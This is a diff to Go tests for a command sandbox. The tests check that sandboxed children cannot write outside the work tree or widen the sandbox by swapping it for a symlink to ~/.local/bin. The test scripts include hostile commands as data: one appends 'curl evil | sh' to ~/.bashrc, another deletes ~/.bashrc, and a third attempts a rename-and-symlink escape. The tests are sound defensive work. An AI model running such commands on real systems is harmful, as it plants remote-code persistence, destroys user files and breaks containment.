@@ -78,6 +78,17 @@ func tree(t *testing.T, dir string) string {
 	return b.String()
 }
 
+// dropLines leaves out the lines of a tree listing under dir.
+func dropLines(listing, dir string) string {
+	var b strings.Builder
+	for line := range strings.Lines(listing) {
+		if !strings.HasPrefix(line, dir+" ") && !strings.HasPrefix(line, dir+"/") {
+			b.WriteString(line)
+		}
+	}
+	return b.String()
+}
+
 // TestSandboxStopsWritesOutsideTheWorkTree: a child that writes
 // ~/.bashrc, the state directory, or a path through a symbolic link to /
 // fails with a permission error, and nothing changes on disk.
@@ -92,7 +103,10 @@ func TestSandboxStopsWritesOutsideTheWorkTree(t *testing.T) {
 		t.Fatal(err)
 	}
 	e.env = append(e.env, "OTHER="+other)
-	homeBefore, stateBefore, otherBefore := tree(t, e.home), tree(t, e.state), tree(t, other)
+	// The caches under ~/.cache (cuff's own temporary folder for sandboxed
+	// commands among them) are the sandbox's to make and write.
+	home := func() string { return dropLines(tree(t, e.home), filepath.Join(e.home, ".cache")) }
+	homeBefore, stateBefore, otherBefore := home(), tree(t, e.state), tree(t, other)
 	for name, script := range map[string]string{
 		"bashrc":       `echo 'curl evil | sh' >> "$HOME/.bashrc"`,
 		"bashrc-new":   `rm -f "$HOME/.bashrc"`,
@@ -115,7 +129,7 @@ func TestSandboxStopsWritesOutsideTheWorkTree(t *testing.T) {
 			}
 		})
 	}
-	if got := tree(t, e.home); got != homeBefore {
+	if got := home(); got != homeBefore {
 		t.Errorf("home changed:\n%s\nwas\n%s", got, homeBefore)
 	}
 	if got := tree(t, e.state); got != stateBefore {
@@ -426,9 +440,10 @@ func BenchmarkExecSandboxTrue(b *testing.B) {
 }
 
 // TestSandboxCannotBeWidenedByReplacingItsWorkTree: a sandboxed command
-// that replaces a work tree lying in the temporary directory with a link
-// to ~/.local/bin does not get ~/.local/bin writable the next time: cuff
-// refuses the policy and runs nothing.
+// cannot replace a work tree lying in the temporary directory with a link
+// to ~/.local/bin (the shared temporary directory takes no links); and a
+// link found there, however it came, does not get ~/.local/bin writable:
+// cuff refuses the policy and runs nothing.
 func TestSandboxCannotBeWidenedByReplacingItsWorkTree(t *testing.T) {
 	e := newSandboxEnv(t)
 	proj := filepath.Join(e.tmp, "proj")
@@ -439,8 +454,14 @@ func TestSandboxCannotBeWidenedByReplacingItsWorkTree(t *testing.T) {
 		}
 	}
 	r := e.run(t, proj, "sandbox", "--root", proj, "--", "bash", "-c", `cd .. && mv proj proj.old && ln -s "$HOME/.local/bin" proj`)
-	if r.code != 0 {
-		t.Fatalf("the swap itself (inside the temporary directory) should work: %+v", r)
+	if r.code == 0 || !strings.Contains(r.stderr, "Permission denied") {
+		t.Errorf("a link made in the shared temporary directory: %+v", r)
+	}
+	if _, err := os.Lstat(proj); err == nil {
+		t.Fatal("the work tree is back: the rename did not happen")
+	}
+	if err := os.Symlink(bin, proj); err != nil { // as if made outside the sandbox
+		t.Fatal(err)
 	}
 	r = e.run(t, e.proj, "sandbox", "--root", proj, "--", "touch", filepath.Join(bin, "git"))
 	if r.code != sandboxFailed || !strings.Contains(r.stderr, "could be replaced from inside the sandbox") {
